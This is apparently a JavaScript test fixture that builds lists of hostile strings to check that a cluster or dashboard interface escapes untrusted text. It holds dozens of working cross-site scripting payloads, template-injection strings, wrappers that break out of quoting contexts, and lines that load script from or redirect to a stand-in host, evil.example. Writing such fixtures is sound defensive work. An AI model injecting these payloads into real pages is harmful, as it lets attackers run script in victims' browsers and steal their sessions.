// Texts that want to be more than text. Each is used as key, value, node id and log line.

// Written one by one: what no context makes more dangerous.
const SINGLE = [
  "<script>globalThis.__harmed=1;alert(1)</script>",
  "<img src=x onerror=\"globalThis.__harmed=1;alert(2)\">",
  "<svg onload=alert(3)><animate onbegin=alert(3) attributeName=x dur=1s>",
  "\"><iframe srcdoc=\"<script>parent.__harmed=1</script>\"></iframe>",
  "'-alert(4)-'",
  "javascript:alert(5)",
  "</script><script>alert(6)</script>",
  "<a href=\"javascript:alert(7)\">press here</a>",
  "<style>*{display:none!important}</style>",
  "<base href=\"https://evil.example/\">",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "{{constructor.constructor('alert(8)')()}}",
  "${alert(9)}",
  "__proto__",
  "constructor",
  "\u202eevil\u202c reversed",
  "\u2066hidden\u2069\u200b\u200d\ufeff",
  "\u0000\u0007\u001b[31mred\u001b[0m\r\n\t",
  "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030f",
  "x".repeat(5000),
  "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd abc",
  "<math><mi//xlink:href=\"data:x,<script>alert(10)</script>\">",
  "&lt;script&gt;&#60;b&#62;",
  "%3Cscript%3Ealert(11)%3C/script%3E",
  "\ud83d\udca9\ud800 lone surrogate",
  "<vizor-empty></vizor-empty><dialog open>you were logged out</dialog>",
  "--- 2026-01-01 node0 leads term 99 · 3 of 3 up",
];

const HARM = "globalThis.__harmed=1";

// What would run, each by another door.
const PAYLOADS = [
  `<script>${HARM}</script>`,
  `<script type=module>${HARM}</script>`,
  "<script src=https://evil.example/x.js></script>",
  `<img src=x onerror=${HARM}>`,
  `<svg><script>${HARM}</script></svg>`,
  `<svg/onload=${HARM}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HARM}>#x"></svg>`,
  `<details open ontoggle=${HARM}>`,
  `<video><source onerror=${HARM}></video>`,
  `<input autofocus onfocus=${HARM}>`,
  `<body onload=${HARM}>`,
  `<iframe src="javascript:parent.${HARM}"></iframe>`,
  `<object data="javascript:${HARM}"></object>`,
  `<embed src="data:text/html,<script>${HARM}</script>">`,
  `<form action="javascript:${HARM}"><button>go</button></form>`,
  `<a href="java\tscript:${HARM}">a</a>`,
  `<template shadowrootmode=open><script>${HARM}</script></template>`,
  `<math><mtext><img src=x onerror=${HARM}></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
  `<marquee onstart=${HARM}>x</marquee>`,
  `<div style="background:url(javascript:${HARM})">x</div>`,
  `{{constructor.constructor("${HARM}")()}}`,
];

// Where a text may stand when somebody forgets to escape it: each closes what would be open.
const CONTEXTS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `--></style></script></textarea></title>${text}`,
  (text) => `\`;${text}//`,
  (text) => `\\u003c${text}\\"`,
  (text) => `{"key":"}${text}`,
  (text) => `]]>${text}<![CDATA[`,
];

/** Each text once; where a real cluster has to write them, that is enough. */
export const HOSTILE_ONCE = [...SINGLE, ...PAYLOADS];

export const HOSTILE = [
  ...SINGLE,
  ...PAYLOADS.flatMap((payload) => CONTEXTS.map((context) => context(payload))),
];
